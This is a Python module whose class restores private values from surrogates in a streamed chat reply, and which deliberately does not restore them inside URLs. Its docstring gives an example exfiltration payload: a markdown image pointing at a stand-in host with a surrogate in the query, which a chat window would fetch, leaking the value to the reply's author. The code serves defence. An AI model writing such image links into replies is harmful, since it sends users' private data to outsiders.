"""Putting private values back into a reply that may come in pieces, on the owner's side only.

The way back of a private map: a surrogate that stands alone, whatever its case, becomes the value it was drawn for.
What might still become a surrogate is held back until the next piece; nothing else waits.

Inside an address nothing is restored: a reply that says `![](https://elsewhere.example/?ID-00017)` would otherwise make
a chat window send the private value to whoever wrote the reply, by fetching the picture.
"""

from __future__ import annotations

from collections.abc import Mapping

__all__ = ["Restorer"]


class Restorer:
    """Restores one reply.

    Args:
        originals: Surrogate, in lower case, to private value.

    Example:
        >>> restorer = Restorer({"id-00017": "B-4711"})
        >>> restorer.feed("See ID-000"), restorer.feed("17, not ID-000170."), restorer.close()
        ('See ', 'B-4711, not ID-000170.', '')
    """

    def __init__(self, originals: Mapping[str, str]) -> None:
        self._originals = dict(originals)
        self._beginnings = {surrogate[:n] for surrogate in originals for n in range(1, len(surrogate) + 1)}
        self._held, self._before = "", " "
        self._address = self._angle = False  # whether what comes continues an address, or stands after an open "<"

    def feed(self, piece: str) -> str:
        """Return what can be said for sure once this piece is there."""
        return self._advance(self._held + piece, last=False)

    def close(self) -> str:
        """Return the rest: the reply has ended."""
        return self._advance(self._held, last=True)

    def _advance(self, text: str, *, last: bool) -> str:
        said, done, place = list[str](), 0, 0
        while place < len(text):
            end = place
            if not (self._address or _in_word(self._before)):
                while end < len(text) and text[place : end + 1].lower() in self._beginnings:
                    end += 1
                if end == len(text) and not last:
                    break
            found = next((e for e in range(end, place, -1) if self._stands(text, place, e)), None)
            if found is not None:
                said += [text[done:place], self._originals[text[place:found].lower()]]
                done = found
            for character in text[place : found or place + 1]:
                self._pass(character)
            place = found or place + 1
        self._held = text[place:]
        return "".join([*said, text[done:place]])

    def _stands(self, text: str, start: int, end: int) -> bool:
        """Whether a surrogate stands here that no further character of a word follows."""
        return text[start:end].lower() in self._originals and not (end < len(text) and _in_word(text[end]))

    def _pass(self, character: str) -> None:
        """Keep track of addresses: from "//" to white space, or to ">" or an empty line after an open "<"."""
        if character == self._before == "/":
            self._address = True
        elif character == ">" or character == self._before == "\n":
            self._address = self._angle = False
        elif character == "<":
            self._angle = True
        elif character.isspace() and not self._angle:
            self._address = False
        self._before = character


def _in_word(character: str) -> bool:
    return character.isalnum() or character == "_"
